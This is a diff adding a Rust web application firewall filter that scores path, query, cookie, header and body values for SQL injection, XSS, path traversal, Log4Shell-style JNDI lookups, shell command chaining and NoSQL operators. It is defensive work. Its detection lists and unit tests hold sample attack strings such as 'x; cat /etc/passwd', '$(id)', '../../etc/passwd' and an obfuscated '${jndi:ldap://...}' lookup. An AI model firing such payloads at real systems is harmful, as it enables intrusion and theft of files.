@@ -1,0 +1,511 @@
+//! The built-in WAF filter, on routes with `waf = true`. It inspects the path, query
+//! arguments, cookies and chosen headers in the header phase, and JSON and form bodies in
+//! the body phase (asking for the body only on its routes). Each value is decoded the way
+//! servers read it (percent and `+` decoding; JSON strings unescaped by the parser; HTML
+//! entities too for XSS) and located precisely: `query:q`, `header:user-agent`,
+//! `cookie:session`, `form:comment`, `body:/items/0/note` (a JSON pointer). Rules have a
+//! stable id, a family, a paranoia level and a score; a phase whose matches reach
+//! `[waf] threshold` is refused with the family of its highest-scoring match (anomaly
+//! scoring, as the OWASP Core Rule Set does). The trace lists every contributing rule with
+//! its part, score and a masked fragment (a short prefix and a hash, never the value).
+//! Not inspected yet: multipart and XML bodies.
+//! Codes: `waf.sqli`, `waf.xss`, `waf.traversal`, `waf.jndi`, `waf.rce`, `waf.nosql` (403),
+//! `waf.body_unparsable`, `waf.body_too_deep`, `waf.too_many_values` (400).
+
+use http::HeaderMap;
+use pinpoint_core::config::WafConfig;
+use pinpoint_core::{Denial, Outcome, Reason};
+
+use crate::pipeline::{Check, Filter, RequestCtx};
+
+pub struct WafFilter {
+    config: WafConfig,
+}
+
+/// One rule: what it looks for is in [`Rule::matches`].
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Rule {
+    SqliLibinjection,
+    XssLibinjection,
+    TraversalDotDot,
+    JndiLookup,
+    RceShellChain,
+    NosqlOperator,
+}
+
+impl Rule {
+    const VALUE_RULES: [Rule; 5] = [
+        Rule::SqliLibinjection,
+        Rule::XssLibinjection,
+        Rule::TraversalDotDot,
+        Rule::JndiLookup,
+        Rule::RceShellChain,
+    ];
+
+    fn id(self) -> &'static str {
+        match self {
+            Rule::SqliLibinjection => "sqli-libinjection",
+            Rule::XssLibinjection => "xss-libinjection",
+            Rule::TraversalDotDot => "traversal-dotdot",
+            Rule::JndiLookup => "jndi-lookup",
+            Rule::RceShellChain => "rce-shell-chain",
+            Rule::NosqlOperator => "nosql-operator",
+        }
+    }
+
+    fn reason(self) -> Reason {
+        match self {
+            Rule::SqliLibinjection => Reason::WafSqli,
+            Rule::XssLibinjection => Reason::WafXss,
+            Rule::TraversalDotDot => Reason::WafTraversal,
+            Rule::JndiLookup => Reason::WafJndi,
+            Rule::RceShellChain => Reason::WafRce,
+            Rule::NosqlOperator => Reason::WafNosql,
+        }
+    }
+
+    fn paranoia(self) -> u8 {
+        match self {
+            Rule::RceShellChain => 2,
+            _ => 1,
+        }
+    }
+
+    fn score(self) -> u32 {
+        5
+    }
+
+    fn matches(self, value: &str) -> bool {
+        match self {
+            Rule::SqliLibinjection => libinjectionrs::detect_sqli(value.as_bytes()).is_injection(),
+            Rule::XssLibinjection => {
+                libinjectionrs::detect_xss(value.as_bytes()).is_injection()
+                    || (value.contains('&') && libinjectionrs::detect_xss(html_decode(value).as_bytes()).is_injection())
+            }
+            Rule::TraversalDotDot => {
+                let v = value.replace('\\', "/");
+                v.contains("../") || v.ends_with("/..") || v == ".."
+            }
+            Rule::JndiLookup => jndi(value),
+            Rule::RceShellChain => shell_chain(value),
+            Rule::NosqlOperator => false,
+        }
+    }
+}
+
+/// One rule's match in one part.
+struct Hit {
+    rule: Rule,
+    part: String,
+    fragment: String,
+}
+
+impl WafFilter {
+    pub fn new(config: &WafConfig) -> Self {
+        WafFilter { config: config.clone() }
+    }
+
+    fn inspect(&self, part: String, value: &str, hits: &mut Vec<Hit>) {
+        for rule in Rule::VALUE_RULES {
+            if rule.paranoia() <= self.config.paranoia && rule.matches(value) {
+                hits.push(Hit {
+                    rule,
+                    part: part.clone(),
+                    fragment: masked(value),
+                });
+            }
+        }
+    }
+
+    /// The verdict on a phase's hits: refused when their scores reach the threshold.
+    fn verdict(&self, hits: Vec<Hit>) -> Outcome {
+        let score: u32 = hits.iter().map(|h| h.rule.score()).sum();
+        if hits.is_empty() {
+            return Outcome::allow();
+        }
+        let summary = hits
+            .iter()
+            .map(|h| {
+                format!(
+                    "{} ({}, pl{}, +{}) at {}: {}",
+                    h.rule.id(),
+                    h.rule.reason().code(),
+                    h.rule.paranoia(),
+                    h.rule.score(),
+                    h.part,
+                    h.fragment
+                )
+            })
+            .collect::<Vec<_>>()
+            .join("; ");
+        if score < self.config.threshold {
+            return Outcome::Allow {
+                rule_id: Some(format!("score {score} below {}: {summary}", self.config.threshold).into()),
+            };
+        }
+        let mut parts: Vec<&str> = hits.iter().map(|h| h.part.as_str()).collect();
+        parts.dedup();
+        let named = parts
+            .iter()
+            .take(3)
+            .map(|p| format!("`{p}`"))
+            .collect::<Vec<_>>()
+            .join(", ");
+        let first = hits[0].rule;
+        Outcome::Deny(
+            Denial::new(first.reason(), format!("The content of {named} was refused."))
+                .rule(first.id())
+                .note(format!(
+                    "score {score} (threshold {}): {summary}",
+                    self.config.threshold
+                )),
+        )
+    }
+
+    fn header_phase(&self, ctx: &RequestCtx<'_>) -> Vec<Hit> {
+        let mut hits = Vec::new();
+        self.inspect(String::from("path"), &form_decode(ctx.path, false), &mut hits);
+        if let Some(query) = ctx.query {
+            for (name, value) in pairs(query) {
+                self.inspect(format!("query:{name}"), &value, &mut hits);
+            }
+        }
+        for name in &self.config.headers {
+            for value in ctx.headers.get_all(name.as_str()) {
+                self.inspect(
+                    format!("header:{name}"),
+                    &String::from_utf8_lossy(value.as_bytes()),
+                    &mut hits,
+                );
+            }
+        }
+        for value in ctx.headers.get_all(http::header::COOKIE) {
+            for pair in String::from_utf8_lossy(value.as_bytes()).split(';') {
+                if let Some((name, value)) = pair.trim().split_once('=') {
+                    self.inspect(format!("cookie:{name}"), &form_decode(value, false), &mut hits);
+                }
+            }
+        }
+        hits
+    }
+
+    fn body_phase(&self, headers: &HeaderMap, body: &[u8]) -> Result<Vec<Hit>, Denial> {
+        let content_type = headers
+            .get(http::header::CONTENT_TYPE)
+            .and_then(|v| v.to_str().ok())
+            .map(|v| v.split(';').next().unwrap_or("").trim().to_ascii_lowercase())
+            .unwrap_or_default();
+        let mut hits = Vec::new();
+        if content_type == "application/json" || content_type.ends_with("+json") {
+            let value: serde_json::Value = serde_json::from_slice(body).map_err(|e| {
+                Denial::new(Reason::WafBodyUnparsable, "The body is not valid JSON.").note(format!(
+                    "JSON error at line {} column {}",
+                    e.line(),
+                    e.column()
+                ))
+            })?;
+            let mut walk = JsonWalk {
+                waf: self,
+                hits: &mut hits,
+                values: 0,
+            };
+            walk.value(&value, &mut String::new(), 0)?;
+        } else if content_type == "application/x-www-form-urlencoded" {
+            let text = std::str::from_utf8(body)
+                .map_err(|_| Denial::new(Reason::WafBodyUnparsable, "The form body is not UTF-8 text."))?;
+            let fields = pairs(text);
+            if fields.len() > self.config.max_values {
+                return Err(too_many(self.config.max_values));
+            }
+            for (name, value) in fields {
+                self.inspect(format!("form:{name}"), &value, &mut hits);
+            }
+        }
+        Ok(hits)
+    }
+}
+
+fn too_many(max: usize) -> Denial {
+    Denial::new(
+        Reason::WafTooManyValues,
+        format!("The body holds more than {max} values."),
+    )
+}
+
+/// Walks a JSON document: every string (and key) with its JSON pointer.
+struct JsonWalk<'w> {
+    waf: &'w WafFilter,
+    hits: &'w mut Vec<Hit>,
+    values: usize,
+}
+
+impl JsonWalk<'_> {
+    fn value(&mut self, value: &serde_json::Value, pointer: &mut String, depth: usize) -> Result<(), Denial> {
+        if depth > self.waf.config.max_json_depth {
+            return Err(Denial::new(
+                Reason::WafBodyTooDeep,
+                format!(
+                    "The JSON body nests deeper than {} levels.",
+                    self.waf.config.max_json_depth
+                ),
+            ));
+        }
+        self.values += 1;
+        if self.values > self.waf.config.max_values {
+            return Err(too_many(self.waf.config.max_values));
+        }
+        match value {
+            serde_json::Value::String(s) => self.waf.inspect(format!("body:{pointer}"), s, self.hits),
+            serde_json::Value::Array(items) => {
+                for (i, item) in items.iter().enumerate() {
+                    let len = pointer.len();
+                    pointer.push_str(&format!("/{i}"));
+                    self.value(item, pointer, depth + 1)?;
+                    pointer.truncate(len);
+                }
+            }
+            serde_json::Value::Object(fields) => {
+                for (key, item) in fields {
+                    let len = pointer.len();
+                    pointer.push('/');
+                    pointer.push_str(&key.replace('~', "~0").replace('/', "~1"));
+                    if NOSQL_OPERATORS.contains(&key.as_str()) {
+                        self.hits.push(Hit {
+                            rule: Rule::NosqlOperator,
+                            part: format!("body:{pointer}"),
+                            fragment: masked(key),
+                        });
+                    } else {
+                        self.waf.inspect(format!("key:{pointer}"), key, self.hits);
+                    }
+                    self.value(item, pointer, depth + 1)?;
+                    pointer.truncate(len);
+                }
+            }
+            _ => {}
+        }
+        Ok(())
+    }
+}
+
+const NOSQL_OPERATORS: [&str; 16] = [
+    "$where",
+    "$ne",
+    "$gt",
+    "$gte",
+    "$lt",
+    "$lte",
+    "$in",
+    "$nin",
+    "$regex",
+    "$exists",
+    "$expr",
+    "$or",
+    "$and",
+    "$not",
+    "$nor",
+    "$elemMatch",
+];
+
+/// `name=value` pairs of a query or form, percent- and `+`-decoded.
+fn pairs(text: &str) -> Vec<(String, String)> {
+    text.split('&')
+        .filter(|p| !p.is_empty())
+        .map(|p| {
+            let (name, value) = p.split_once('=').unwrap_or((p, ""));
+            (form_decode(name, true), form_decode(value, true))
+        })
+        .collect()
+}
+
+/// Percent-decoding (and `+` as a space in forms and queries), as servers read values;
+/// bytes that are not UTF-8 are replaced.
+fn form_decode(text: &str, plus_is_space: bool) -> String {
+    let bytes = text.as_bytes();
+    let mut out = Vec::with_capacity(bytes.len());
+    let mut i = 0;
+    while i < bytes.len() {
+        match bytes[i] {
+            b'%' if i + 2 < bytes.len() => {
+                let hex = |b: u8| (b as char).to_digit(16);
+                match (hex(bytes[i + 1]), hex(bytes[i + 2])) {
+                    (Some(h), Some(l)) => {
+                        out.push((h * 16 + l) as u8);
+                        i += 3;
+                        continue;
+                    }
+                    _ => out.push(b'%'),
+                }
+            }
+            b'+' if plus_is_space => out.push(b' '),
+            b => out.push(b),
+        }
+        i += 1;
+    }
+    String::from_utf8_lossy(&out).into_owned()
+}
+
+/// HTML character references decoded (`&lt;`, `&#60;`, `&#x3c;`), for what a browser
+/// would read.
+fn html_decode(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(at) = rest.find('&') {
+        out.push_str(&rest[..at]);
+        rest = &rest[at..];
+        let end = rest.find(';').filter(|e| *e <= 10);
+        let decoded = end.and_then(|e| {
+            let entity = &rest[1..e];
+            let c = match entity {
+                "lt" => Some('<'),
+                "gt" => Some('>'),
+                "quot" => Some('"'),
+                "apos" => Some('\''),
+                "amp" => Some('&'),
+                _ if entity.starts_with("#x") || entity.starts_with("#X") => {
+                    u32::from_str_radix(&entity[2..], 16).ok().and_then(char::from_u32)
+                }
+                _ if entity.starts_with('#') => entity[1..].parse().ok().and_then(char::from_u32),
+                _ => None,
+            };
+            c.map(|c| (c, e))
+        });
+        match decoded {
+            Some((c, e)) => {
+                out.push(c);
+                rest = &rest[e + 1..];
+            }
+            None => {
+                out.push('&');
+                rest = &rest[1..];
+            }
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+/// A `${jndi:` lookup, also spelled with nested lookups that evaluate to its letters.
+fn jndi(value: &str) -> bool {
+    let lower = value.to_ascii_lowercase();
+    if !lower.contains("${") {
+        return false;
+    }
+    // `${lower:j}`, `${upper:j}`, `${::-j}`, `${env:X:-j}`, `${date:'j'}` all read `j`.
+    let mut flat = String::with_capacity(lower.len());
+    let mut rest = lower.as_str();
+    while let Some(at) = rest.find("${") {
+        flat.push_str(&rest[..at]);
+        let inner_start = at + 2;
+        match rest[inner_start..].find('}') {
+            Some(close) if !rest[inner_start..inner_start + close].contains("${") => {
+                let inner = &rest[inner_start..inner_start + close];
+                let letters = inner.rsplit([':', '-']).next().unwrap_or("").trim_matches('\'');
+                if inner.starts_with("jndi") || inner.contains("jndi:") {
+                    flat.push_str("${");
+                    flat.push_str(inner);
+                } else {
+                    flat.push_str(letters);
+                }
+                rest = &rest[inner_start + close + 1..];
+            }
+            _ => {
+                flat.push_str("${");
+                rest = &rest[inner_start..];
+            }
+        }
+    }
+    flat.push_str(rest);
+    flat.contains("jndi:") && (flat.contains("${") || lower.contains("${jndi"))
+}
+
+/// A shell command chained into a value: `; cmd`, `| cmd`, `&& cmd`, `$(cmd)`, `` `cmd` ``.
+fn shell_chain(value: &str) -> bool {
+    const COMMANDS: [&str; 14] = [
+        "cat", "ls", "id", "whoami", "uname", "wget", "curl", "nc", "bash", "sh", "python", "perl", "rm", "ping",
+    ];
+    let lower = value.to_ascii_lowercase();
+    ["$(", "`"].iter().any(|s| lower.contains(s))
+        || [";", "|", "&&"].iter().any(|sep| {
+            lower.split(sep).skip(1).any(|after| {
+                let word = after
+                    .trim_start()
+                    .split(|c: char| !c.is_ascii_alphanumeric())
+                    .next()
+                    .unwrap_or("");
+                COMMANDS.contains(&word)
+            })
+        })
+}
+
+/// A value as the trace shows it: its first characters and a hash, never the whole.
+fn masked(value: &str) -> String {
+    let prefix: String = value.chars().take(8).collect();
+    let hash = value
+        .bytes()
+        .fold(0x811c_9dc5u32, |h, b| (h ^ u32::from(b)).wrapping_mul(0x0100_0193));
+    format!("{prefix:?}… #{hash:08x}")
+}
+
+impl Filter for WafFilter {
+    fn name(&self) -> &'static str {
+        "waf"
+    }
+
+    fn check<'a>(&'a self, ctx: &'a mut RequestCtx<'_>) -> Check<'a> {
+        if !ctx.route.as_ref().is_some_and(|r| r.waf) {
+            return Check::Ready(Outcome::NotApplicable);
+        }
+        Check::Ready(self.verdict(self.header_phase(ctx)))
+    }
+
+    fn needs_body(&self, ctx: &RequestCtx<'_>) -> Option<u64> {
+        let route = ctx.route.as_ref().filter(|r| r.waf)?;
+        let has_body = ctx.headers.contains_key(http::header::TRANSFER_ENCODING)
+            || ctx
+                .headers
+                .get(http::header::CONTENT_LENGTH)
+                .is_some_and(|v| v.as_bytes() != b"0");
+        has_body.then_some(route.max_body_bytes)
+    }
+
+    fn check_body(&self, ctx: &mut RequestCtx<'_>, body: &[u8]) -> Outcome {
+        match self.body_phase(ctx.headers, body) {
+            Ok(hits) => self.verdict(hits),
+            Err(denial) => Outcome::Deny(denial),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn values_are_decoded_as_servers_read_them() {
+        assert_eq!(form_decode("a%27+b", true), "a' b");
+        assert_eq!(form_decode("a%2", true), "a%2");
+        assert_eq!(html_decode("&lt;script&#62;&#x61;"), "<script>a");
+        assert!(jndi("${${lower:j}ndi:${lower:l}dap://x/a}"));
+        assert!(jndi("${jndi:ldap://x}"));
+        assert!(!jndi("${price} is jndi-free"));
+        assert!(shell_chain("x; cat /etc/passwd") && shell_chain("$(id)"));
+        assert!(!shell_chain("Tom & Jerry; a catalogue"));
+    }
+
+    #[test]
+    fn rules_find_attacks_and_pass_look_alikes() {
+        let hit = |rule: Rule, v: &str| rule.matches(v);
+        assert!(hit(Rule::SqliLibinjection, "1' OR '1'='1"));
+        assert!(hit(Rule::SqliLibinjection, "1 UNION SELECT password FROM users--"));
+        assert!(!hit(Rule::SqliLibinjection, "O'Brien"));
+        assert!(!hit(Rule::SqliLibinjection, "Please select a size from the list"));
+        assert!(hit(Rule::XssLibinjection, "<script>alert(1)</script>"));
+        assert!(hit(Rule::XssLibinjection, "&lt;img src=x onerror=alert(1)&gt;"));
+        assert!(!hit(Rule::XssLibinjection, "if x < 10 then show the banner"));
+        // Shaped like a boolean-based injection: refused, as the CRS refuses it.
+        assert!(hit(Rule::SqliLibinjection, "5 < 6 and 7 > 3"));
+        assert!(hit(Rule::TraversalDotDot, "../../etc/passwd"));
+        assert!(!hit(Rule::TraversalDotDot, "wait... what"));
+    }
+}
